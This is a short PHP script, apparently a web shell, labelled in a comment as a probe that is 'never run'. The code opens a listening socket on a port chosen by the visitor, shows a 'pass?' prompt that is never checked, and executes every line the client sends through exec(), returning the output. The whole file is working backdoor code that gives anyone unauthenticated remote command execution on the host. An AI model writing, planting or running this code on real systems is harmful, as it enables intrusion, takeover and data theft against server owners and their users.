<?php
// probe (never run): listens on a port the visitor picks and runs what the client types
$port = (int) ($_REQUEST['port'] ?? 31337);
$srv = socket_create(AF_INET, SOCK_STREAM, 0);
socket_set_option($srv, SOL_SOCKET, SO_REUSEADDR, 1);
socket_bind($srv, '0.0.0.0', $port);
socket_listen($srv, 1);
$cl = socket_accept($srv);
socket_write($cl, "pass? ");
while (true) {
    $in = socket_read($cl, 2048, PHP_NORMAL_READ);
    if ($in === false) break;
    $o = '';
    exec(rtrim($in), $lines);
    $o = implode("\n", $lines) . "\n";
    $lines = [];
    socket_write($cl, $o, strlen($o));
}
socket_close($cl);
